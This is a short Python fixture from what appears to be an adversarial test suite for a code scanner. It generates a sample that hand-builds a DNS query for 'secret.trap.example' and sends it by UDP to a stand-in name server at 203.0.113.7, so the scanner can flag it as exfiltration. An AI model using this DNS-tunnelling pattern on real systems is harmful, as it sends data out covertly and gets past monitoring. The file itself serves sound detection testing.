"""Class: exfiltration. A query written by hand goes to a name server of its own."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, checkpoint, run

EXPECT = {"address": ADDRESS, "port": 53, "domain": "secret.trap.example", "finding": "SL202"}


def make(folder: Path) -> Path:
    source = r"""
import socket
query = b'\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04trap\x07example\x00\x00\x10\x00\x01'
socket.socket(type=socket.SOCK_DGRAM).sendto(query, ('203.0.113.7', 53))
"""
    return checkpoint(folder, run(source))
